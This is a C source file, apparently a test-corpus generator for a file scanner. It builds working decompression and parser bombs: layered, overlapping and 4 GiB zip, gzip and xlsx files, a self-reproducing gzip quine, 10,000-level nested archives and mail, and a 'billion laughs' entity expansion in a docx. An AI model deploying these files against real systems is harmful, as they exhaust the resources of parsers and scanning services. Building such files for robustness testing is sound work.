/* SPDX-License-Identifier: Apache-2.0 */
#include "generate/bombs.h"

#include "base/alloc.h"
#include "generate/must.h"
#include "generate/office_xml.h"
#include "generate/put.h"
#include "generate/zip_writer.h"

#include <string.h>
#include <zlib.h>

enum {
    OUT_MAX = 256 << 20,
    LEVELS = 10000,
    LAYERS = 5,
    WIDTH = 16,
    MEMBERS = 200000,
    UNIT = 5, /* bytes of each instruction of the quine */
};

static const uint64_t four_gib = UINT64_C(4) << 30;

static void add(struct ls_buf *out, const void *bytes, size_t len)
{
    must(ls_buf_add(out, bytes, len));
}

static void finish(struct ls_zip_writer *zip, struct ls_buf *out)
{
    ls_zip_writer_end(zip, NULL);
    add(out, zip->out.at, zip->out.n);
    ls_zip_writer_fini(zip);
}

/* ---- much of one byte ------------------------------------------------------------------------ */

static void zeros_zip(struct ls_buf *out, uint64_t n)
{
    struct ls_zip_writer zip;
    struct ls_buf packed = {.limit = OUT_MAX};
    struct ls_zip_record as = {.name = "zeros", .method = 8, .size = n};
    ls_zip_writer_init(&zip);
    ls_deflate_run(&packed, 0, n, &as.crc);
    ls_zip_writer_add_packed(&zip, &as, packed.at, packed.n);
    LS_VEC_FINI(&packed);
    finish(&zip, out);
}

void ls_bomb_zeros_zip(struct ls_buf *out)
{
    zeros_zip(out, four_gib);
}

void ls_bomb_zeros_gzip(struct ls_buf *out)
{
    uint32_t crc;
    add(out, "\x1F\x8B\x08\0\0\0\0\0\2\3", 10);
    ls_deflate_run(out, 0, four_gib, &crc);
    put_number(out, crc, 4);
    put_number(out, 0, 4); /* the size, modulo 2^32 */
}

void ls_bomb_layers(struct ls_buf *out)
{
    struct ls_buf inner = {.limit = OUT_MAX};
    zeros_zip(&inner, four_gib);
    for (int layer = 0; layer < LAYERS; layer++) {
        struct ls_zip_writer zip;
        struct ls_buf packed = {.limit = OUT_MAX};
        char names[WIDTH][16];
        struct ls_zip_record as = {.method = 8, .size = inner.n};
        as.crc = (uint32_t)crc32_z(0, (const Bytef *)inner.at, inner.n);
        ls_zip_writer_init(&zip);
        ls_deflate(&packed, inner.at, inner.n);
        for (int i = 0; i < WIDTH; i++) {
            snprintf(names[i], sizeof names[i], "lib %x.zip", (unsigned)i);
            as.name = names[i];
            ls_zip_writer_add_packed(&zip, &as, packed.at, packed.n);
        }
        LS_VEC_FINI(&packed);
        LS_VEC_CLEAR(&inner);
        finish(&zip, &inner);
    }
    add(out, inner.at, inner.n);
    LS_VEC_FINI(&inner);
}

/* ---- one kernel for many members ------------------------------------------------------------- */

/*
 *   [header 1][stored block: header 2][header 2][stored block: header 3][header 3]…[kernel]
 *
 * Member 1 is all behind its header; its stored blocks quote the headers of the others. Each of n
 * members unpacks to the whole kernel.
 */
void ls_bomb_overlap(struct ls_buf *out)
{
    enum { KERNELS = 250, NAME = 3, HEADER = 30 + NAME };
    static char names[KERNELS][NAME + 1];
    struct ls_zip_writer zip;
    struct ls_buf kernel = {.limit = OUT_MAX};
    uint64_t size = UINT64_C(21) << 20;
    uint32_t crc;
    ls_zip_writer_init(&zip);
    ls_deflate_run(&kernel, 'a', size, &crc);
    for (size_t i = 0; i < KERNELS; i++) {
        size_t quoted = KERNELS - 1 - i;
        snprintf(names[i], sizeof names[i], "%03zu", i);
        struct ls_zip_record as = {
            .name = names[i],
            .method = 8,
            .local = zip.out.n,
            .packed = quoted * (HEADER + UNIT) + kernel.n,
            .size = quoted * HEADER + size,
        };
        ls_zip_writer_local(&zip, &as);
        must(LS_VEC_RESERVE(&zip.records, 1));
        zip.records.at[zip.records.n++] = as;
        const uint8_t block[UNIT] = {0, HEADER, 0, 0xFF & ~HEADER, 0xFF};
        if (quoted > 0)
            ls_zip_writer_raw(&zip, block, sizeof block);
    }
    ls_zip_writer_raw(&zip, kernel.at, kernel.n);
    LS_VEC_FINI(&kernel);
    finish(&zip, out);
}

void ls_bomb_members(struct ls_buf *out)
{
    struct ls_zip_writer zip;
    ls_zip_writer_init(&zip);
    for (size_t i = 0; i < MEMBERS; i++)
        ls_zip_writer_add(&zip, &(struct ls_zip_record){.name = "a"}, NULL, 0);
    finish(&zip, out);
}

void ls_bomb_sizes(struct ls_buf *out)
{
    static const char text[] = "short";
    struct ls_zip_writer zip;
    ls_zip_writer_init(&zip);
    for (uint16_t method = 0; method <= 8; method = (uint16_t)(method + 8)) {
        struct ls_buf packed = {.limit = 1 << 10};
        struct ls_zip_record as = {
            .name = method ? "deflated" : "stored",
            .method = method,
            .size = UINT64_C(1) << 62,
            .packed = UINT64_C(1) << 62,
            .zip64 = true,
            .local = zip.out.n,
        };
        ls_zip_writer_local(&zip, &as);
        if (method)
            ls_deflate(&packed, text, sizeof text - 1);
        else
            add(&packed, text, sizeof text - 1);
        ls_zip_writer_raw(&zip, packed.at, packed.n);
        LS_VEC_FINI(&packed);
        must(LS_VEC_RESERVE(&zip.records, 1));
        zip.records.at[zip.records.n++] = as;
    }
    finish(&zip, out);
}

/* ---- a file in itself ------------------------------------------------------------------------ */

enum instruction {
    PREFIX, /* gzip header: three units */
    SUFFIX, /* end of the stream and trailer: three units */
    LITERAL_4,
    LITERAL_1, /* so many units follow as they are: a stored block (RFC 1951 3.2.4) */
    REPEAT_4,  /* the last four units again: two matches of 10 bytes, 20 bytes back (3.2.6) */
};

/*
 *   program                       what it has written then, beside itself
 *   P L4 [P L4]                   P L4
 *   R4                            P L4 P L4
 *   L1 [R4]                       … R4
 *   L1 [L1]                       … L1
 *   L4 [R4 L1 L1 L4]              … R4 L1 L1 L4
 *   R4                            … R4 L1 L1 L4
 *   L4 [R4 L4 R4 L4]              … R4 L4 R4 L4
 *   R4                            … R4 L4 R4 L4
 *   L4 [R4 S]                     … R4 S
 *   R4 S                          … R4 S
 */
static const enum instruction quine[] = {
    PREFIX,    LITERAL_4, PREFIX,    LITERAL_4, REPEAT_4,  LITERAL_1, REPEAT_4,
    LITERAL_1, LITERAL_1, LITERAL_4, REPEAT_4,  LITERAL_1, LITERAL_1, LITERAL_4,
    REPEAT_4,  LITERAL_4, REPEAT_4,  LITERAL_4, REPEAT_4,  LITERAL_4, REPEAT_4,
    LITERAL_4, REPEAT_4,  SUFFIX,    REPEAT_4,  SUFFIX,
};

static void write_quine(uint32_t crc, uint32_t size, struct ls_buf *out)
{
    static const uint8_t prefix[3 * UNIT] = {0x1F, 0x8B, 8,   8,   0,   0,   0, 0,
                                             0,    3,    's', 'e', 'l', 'f', 0};
    static const uint8_t literal_4[UNIT] = {0, 20, 0, 0xFF & ~20, 0xFF};
    static const uint8_t literal_1[UNIT] = {0, 5, 0, 0xFF & ~5, 0xFF};
    static const uint8_t repeat_4[UNIT] = {0x42, 0x88, 0x21, 0xC4, 0};
    /* Two empty blocks of fixed codes, and a last one, stored, as empty. */
    static const uint8_t end[7] = {0x02, 0x08, 0x10, 0, 0, 0xFF, 0xFF};
    for (size_t i = 0; i < sizeof quine / sizeof *quine; i++)
        switch (quine[i]) {
        case PREFIX:
            add(out, prefix, sizeof prefix);
            break;
        case SUFFIX:
            add(out, end, sizeof end);
            put_number(out, crc, 4);
            put_number(out, size, 4);
            break;
        case LITERAL_4:
            add(out, literal_4, UNIT);
            break;
        case LITERAL_1:
            add(out, literal_1, UNIT);
            break;
        case REPEAT_4:
            add(out, repeat_4, UNIT);
            break;
        }
}

static uint32_t crc_of_quine(uint32_t crc, uint32_t size)
{
    struct ls_buf out = {.limit = 1 << 10};
    write_quine(crc, size, &out);
    uint32_t is = (uint32_t)crc32_z(0, (const Bytef *)out.at, out.n);
    LS_VEC_FINI(&out);
    return is;
}

/*
 * The checksum that a file has which holds that checksum: crc(x) = A x + b over bits, so x is the
 * solution of (A + I) x = b.
 */
static uint32_t own_crc(uint32_t size)
{
    uint64_t rows[32] = {0}; /* 32 coefficients, and the right side in bit 32 */
    uint32_t b = crc_of_quine(0, size), x = 0;
    for (int column = 0; column < 32; column++) {
        uint32_t image = crc_of_quine(UINT32_C(1) << column, size) ^ b ^ UINT32_C(1) << column;
        for (int row = 0; row < 32; row++)
            rows[row] |= (uint64_t)(image >> row & 1) << column;
    }
    for (int row = 0; row < 32; row++)
        rows[row] |= (uint64_t)(b >> row & 1) << 32;
    for (int column = 0; column < 32; column++) {
        int pivot = column;
        while (pivot < 32 && !(rows[pivot] >> column & 1))
            pivot++;
        MUST(pivot < 32);
        uint64_t row = rows[pivot];
        rows[pivot] = rows[column];
        rows[column] = row;
        for (int i = 0; i < 32; i++)
            if (i != column && (rows[i] >> column & 1))
                rows[i] ^= row;
    }
    for (int row = 0; row < 32; row++)
        x |= (uint32_t)(rows[row] >> 32 & 1) << row;
    return x;
}

void ls_bomb_quine(struct ls_buf *out)
{
    struct ls_buf draft = {.limit = 1 << 10};
    write_quine(0, 0, &draft);
    uint32_t size = (uint32_t)draft.n;
    LS_VEC_FINI(&draft);
    write_quine(own_crc(size), size, out);
}

/* ---- depth ----------------------------------------------------------------------------------- */

/* Stored archives: all local headers, from the outermost on, and all directories after them. */
void ls_bomb_nested_zip(struct ls_buf *out)
{
    static const char text[] = "the bottom\n";
    const struct ls_zip_record plain = {.name = "a.zip"};
    struct ls_zip_writer zip;
    ls_zip_writer_init(&zip);
    ls_zip_writer_local(&zip, &plain);
    size_t header = zip.out.n;
    ls_zip_writer_fini(&zip);

    uint64_t *sizes = ls_calloc(LEVELS + 1, sizeof *sizes); /* of what a level holds */
    MUST(sizes);
    sizes[LEVELS - 1] = sizeof text - 1;
    for (int level = LEVELS - 1; level > 0; level--)
        sizes[level - 1] = sizes[level] + header + 46 + 5 + 22;
    for (int level = 0; level < LEVELS; level++) {
        struct ls_zip_record as = plain;
        as.packed = as.size = sizes[level];
        ls_zip_writer_init(&zip);
        ls_zip_writer_local(&zip, &as);
        add(out, zip.out.at, zip.out.n);
        ls_zip_writer_fini(&zip);
    }
    add(out, text, sizeof text - 1);
    for (int level = LEVELS - 1; level >= 0; level--) {
        struct ls_zip_record as = plain;
        as.packed = as.size = sizes[level];
        ls_zip_writer_init(&zip);
        must(LS_VEC_RESERVE(&zip.records, 1));
        zip.records.at[zip.records.n++] = as;
        zip.base = -(header + sizes[level]); /* nothing of it stands in front here */
        ls_zip_writer_end(&zip, NULL);
        add(out, zip.out.at, zip.out.n);
        ls_zip_writer_fini(&zip);
    }
    ls_free(sizes);
}

/* Stored blocks (RFC 1951 3.2.4) of what is inside. */
void ls_bomb_nested_gzip(struct ls_buf *out)
{
    struct ls_buf inner = {.limit = OUT_MAX}, outer = {.limit = OUT_MAX};
    must(ls_buf_str(&inner, "the bottom\n"));
    for (int level = 0; level < LEVELS; level++) {
        LS_VEC_CLEAR(&outer);
        add(&outer, "\x1F\x8B\x08\0\0\0\0\0\0\3", 10);
        for (size_t at = 0; at < inner.n;) {
            size_t n = inner.n - at < UINT16_MAX ? inner.n - at : UINT16_MAX;
            must(ls_buf_char(&outer, at + n == inner.n));
            put_number(&outer, n, 2);
            put_number(&outer, ~n, 2);
            add(&outer, inner.at + at, n);
            at += n;
        }
        put_number(&outer, crc32_z(0, (const Bytef *)inner.at, inner.n), 4);
        put_number(&outer, inner.n, 4);
        struct ls_buf swap = inner;
        inner = outer;
        outer = swap;
    }
    add(out, inner.at, inner.n);
    LS_VEC_FINI(&inner);
    LS_VEC_FINI(&outer);
}

void ls_bomb_nested_mail(struct ls_buf *out)
{
    must(ls_buf_str(out, "From: a@example.org\r\nSubject: nested\r\nMIME-Version: 1.0\r\n"));
    for (int level = 0; level < LEVELS; level++)
        must(ls_buf_printf(out,
                           "Content-Type: multipart/mixed; boundary=\"b%d\"\r\n\r\n--b%d\r\n"
                           "Content-Type: message/rfc822\r\n\r\nSubject: level %d\r\n",
                           level, level, level));
    must(ls_buf_str(out, "Content-Type: text/plain\r\n\r\nthe bottom\r\n"));
    for (int level = LEVELS - 1; level >= 0; level--)
        must(ls_buf_printf(out, "--b%d--\r\n", level));
}

/* ---- documents ------------------------------------------------------------------------------- */

static void add_part(struct ls_zip_writer *zip, const char *name, const char *text)
{
    ls_zip_writer_add(zip, &(struct ls_zip_record){.name = name, .method = 8}, text, strlen(text));
}

/* The parts that every package has (ECMA-376 part 2): its content types and its main part. */
static void begin_package(struct ls_zip_writer *zip, const char *main_part, const char *type)
{
    char text[1024];
    ls_zip_writer_init(zip);
    snprintf(text, sizeof text,
             LS_XML_ALONE "<Types " LS_OOXML_TYPES ">" LS_OOXML_RELS_TYPE
                          "<Override PartName=\"/%s\" ContentType=\"" LS_OOXML_CT
                          "%s.main+xml\"/></Types>",
             main_part, type);
    add_part(zip, "[Content_Types].xml", text);
    snprintf(text, sizeof text, LS_RELS(LS_RELATION("rId1", "officeDocument", "%s")), main_part);
    add_part(zip, "_rels/.rels", text);
}

void ls_bomb_entities(struct ls_buf *out)
{
    struct ls_zip_writer zip;
    struct ls_buf text = {.limit = 1 << 20};
    begin_package(&zip, "word/document.xml", "wordprocessingml.document");
    must(ls_buf_str(&text, LS_XML_ALONE "<!DOCTYPE w [<!ENTITY e0 \"lol\">\n"));
    for (int i = 1; i < 10; i++)
        must(ls_buf_printf(
            &text, "<!ENTITY e%d \"&e%d;&e%d;&e%d;&e%d;&e%d;&e%d;&e%d;&e%d;&e%d;&e%d;\">\n", i,
            i - 1, i - 1, i - 1, i - 1, i - 1, i - 1, i - 1, i - 1, i - 1, i - 1));
    must(ls_buf_str(&text, "]>\n<w:document " LS_OOXML_WORD "><w:body><w:p><w:r><w:t>&e9;"
                           "</w:t></w:r></w:p></w:body></w:document>"));
    must(ls_buf_char(&text, '\0'));
    add_part(&zip, "word/document.xml", text.at);
    LS_VEC_FINI(&text);
    finish(&zip, out);
}

/* A workbook with one sheet of packed bytes. */
static void write_workbook(const struct ls_buf *sheet, uint64_t size, struct ls_buf *out)
{
    struct ls_zip_writer zip;
    struct ls_zip_record as = {.name = "xl/worksheets/sheet1.xml", .method = 8, .size = size};
    begin_package(&zip, "xl/workbook.xml", "spreadsheetml.sheet");
    add_part(&zip, "xl/workbook.xml",
             LS_XML_ALONE "<workbook " LS_OOXML_EXCEL "><sheets><sheet name=\"1\" "
                          "sheetId=\"1\" r:id=\"rId1\"/></sheets></workbook>");
    add_part(&zip, "xl/_rels/workbook.xml.rels",
             LS_RELS(LS_RELATION("rId1", "worksheet", "worksheets/sheet1.xml")));
    ls_zip_writer_add_packed(&zip, &as, sheet->at, sheet->n);
    finish(&zip, out);
}

void ls_bomb_zeros_xlsx(struct ls_buf *out)
{
    struct ls_buf sheet = {.limit = OUT_MAX};
    uint32_t crc;
    ls_deflate_run(&sheet, 0, four_gib, &crc);
    write_workbook(&sheet, four_gib, out);
    LS_VEC_FINI(&sheet);
}

void ls_bomb_cells_xlsx(struct ls_buf *out)
{
    static const char head[] = LS_XML_ALONE "<worksheet " LS_OOXML_EXCEL "><sheetData>";
    static const char row[] = "<row><c><v>0</v></c><c><v>0</v></c><c><v>0</v></c></row>\n";
    static const char tail[] = "</sheetData></worksheet>";
    struct ls_buf rows = {.limit = OUT_MAX}, piece = {.limit = OUT_MAX}, sheet = {.limit = OUT_MAX};
    while (rows.n < 4 << 20)
        must(ls_buf_str(&rows, row));
    ls_deflate_piece(&piece, rows.at, rows.n, false);
    ls_deflate_piece(&sheet, head, sizeof head - 1, false);
    uint64_t size = sizeof head - 1 + sizeof tail - 1;
    for (uint64_t n = 0; n < four_gib; n += rows.n) {
        add(&sheet, piece.at, piece.n);
        size += rows.n;
    }
    ls_deflate_piece(&sheet, tail, sizeof tail - 1, true);
    write_workbook(&sheet, size, out);
    LS_VEC_FINI(&rows);
    LS_VEC_FINI(&piece);
    LS_VEC_FINI(&sheet);
}

const struct ls_bomb *ls_bombs(size_t *n)
{
    static const struct ls_bomb all[] = {
        {"layers.zip", ls_bomb_layers},      {"zeros.zip", ls_bomb_zeros_zip},
        {"zeros.gz", ls_bomb_zeros_gzip},    {"overlap.zip", ls_bomb_overlap},
        {"quine.gz", ls_bomb_quine},         {"nested.zip", ls_bomb_nested_zip},
        {"nested.gz", ls_bomb_nested_gzip},  {"nested.eml", ls_bomb_nested_mail},
        {"sizes.zip", ls_bomb_sizes},        {"members.zip", ls_bomb_members},
        {"entities.docx", ls_bomb_entities}, {"zeros.xlsx", ls_bomb_zeros_xlsx},
        {"cells.xlsx", ls_bomb_cells_xlsx},
    };
    *n = sizeof all / sizeof *all;
    return all;
}
